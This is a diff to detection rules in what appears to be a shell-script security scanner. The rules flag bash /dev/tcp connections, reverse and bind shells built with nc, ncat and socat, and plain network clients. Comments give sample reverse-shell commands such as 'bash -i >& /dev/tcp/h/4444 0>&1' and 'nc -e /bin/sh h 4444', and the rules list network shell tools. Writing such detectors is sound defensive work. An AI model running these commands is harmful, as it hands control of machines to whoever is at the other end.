@@ -1,29 +1,16 @@
 ; The network: bash's /dev/tcp, shells wired to a socket, network clients.
 
-; /dev/tcp/HOST/PORT, /dev/udp/... in a word, a quoted string or a piece of one; a comment or a
-; heredoc that is only data is not a word
-([(word) (raw_string) (string) (ansi_c_string)] @finding
+; /dev/tcp/HOST/PORT, /dev/udp/... in a word or a quoted string (a comment is neither)
+([(word) (raw_string) (string) (ansi_c_string) (concatenation)] @finding
  (#value-match? @finding "/dev/(tcp|udp)/")
  (#not-parent-type? @finding "concatenation")
  (#set! id "sh-dev-tcp")
  (#set! severity "high")
  (#set! message "opens a network connection through bash's /dev/tcp or /dev/udp, a common way to build a reverse shell"))
 
-((concatenation) @finding
- (#value-match? @finding "/dev/(tcp|udp)/")
- (#set! id "sh-dev-tcp")
- (#set! severity "high")
- (#set! message "opens a network connection through bash's /dev/tcp or /dev/udp, a common way to build a reverse shell"))
-
-; "$host/.ssh/id_rsa": the constant part, when the whole does not fold
-((concatenation [(word) (raw_string) (string) (ansi_c_string)] @finding) @whole
- (#value-match? @finding "/dev/(tcp|udp)/")
- (#not-value-match? @whole "/dev/(tcp|udp)/")
- (#set! id "sh-dev-tcp")
- (#set! severity "high")
- (#set! message "opens a network connection through bash's /dev/tcp or /dev/udp, a common way to build a reverse shell"))
-
-((string (string_content) @finding) @whole
+; "$dir/..." whose whole does not fold: the constant piece
+([(concatenation [(word) (raw_string) (string) (ansi_c_string)] @finding)
+  (string (string_content) @finding)] @whole
  (#value-match? @finding "/dev/(tcp|udp)/")
  (#not-value-match? @whole "/dev/(tcp|udp)/")
  (#set! id "sh-dev-tcp")
@@ -32,21 +19,13 @@
 
 ; ---- shells wired to the network ----
 
-; nc -e /bin/sh h 4444, ncat --sh-exec sh -l 4444
+; nc -e /bin/sh h 4444, ncat --sh-exec sh -l 4444, socat tcp:h:4444 exec:/bin/sh
 ((command argument: (_) @opt) @n @finding
- (#resolves-to? @n "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|sbd")
- (#match? @opt "^-[a-zA-Z0-9]*[ec]$|^--(sh-)?exec(=|$)|^--lua-exec(=|$)")
+ (#resolves-to? @n "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|sbd|socat")
+ (#value-match? @opt "^-[a-zA-Z0-9]*[ec]$|^--(sh-|lua-)?exec(=|$)|(?i)(^|[!,])(exec|system):")
  (#set! id "sh-network-shell")
  (#set! severity "high")
  (#set! message "connects a shell to the network (a reverse or bind shell): whoever is at the other end controls the machine"))
-
-; socat tcp:h:4444 exec:/bin/sh, socat ... SYSTEM:'bash -i'
-((command argument: (_) @addr) @n @finding
- (#resolves-to? @n "socat")
- (#value-match? @addr "(?i)(^|[!,])(exec|system):")
- (#set! id "sh-network-shell")
- (#set! severity "high")
- (#set! message "connects a program to the network (socat exec:): whoever is at the other end controls it"))
 
 ; nc h 4444 | sh, telnet h 23 | /bin/bash | telnet h 24
 ((pipeline (_) @src [(command) (redirected_statement)] @sink) @finding
@@ -67,7 +46,7 @@
  (#set! severity "high")
  (#set! message "sends a shell's output to the network (a reverse shell): whoever is at the other end controls the machine"))
 
-; bash -i >& /dev/tcp/h/4444 0>&1, sh <&196 >&196 after exec 196<>/dev/tcp/...
+; bash -i >& /dev/tcp/h/4444 0>&1, sh < /dev/tcp/h/4444
 ((redirected_statement
    body: (command) @sh
    redirect: (file_redirect destination: (_) @dst)) @finding
@@ -79,9 +58,10 @@
 
 ; ---- plain network use ----
 
-; curl https://x, wget u, ssh host, nc host 80 (an argument that is not an option)
+; curl https://x, wget u, ssh host, nc host 80: an argument that is not an option
+; (curl --version is not network use)
 ((command argument: (_) @arg) @n @finding
- (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|lwp-download|GET|HEAD|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|ssh|sftp|ftp|lftp|ncftp|tftp|mosh|sshpass")
+ (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|lynx|w3m|e?links|lwp-download|HEAD|POST|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|ssh|sftp|ftp|lftp|ncftp|tftp|mosh|sshpass")
  (#match? @arg "^[^-]")
  (#set! id "sh-network")
  (#set! severity "warn")
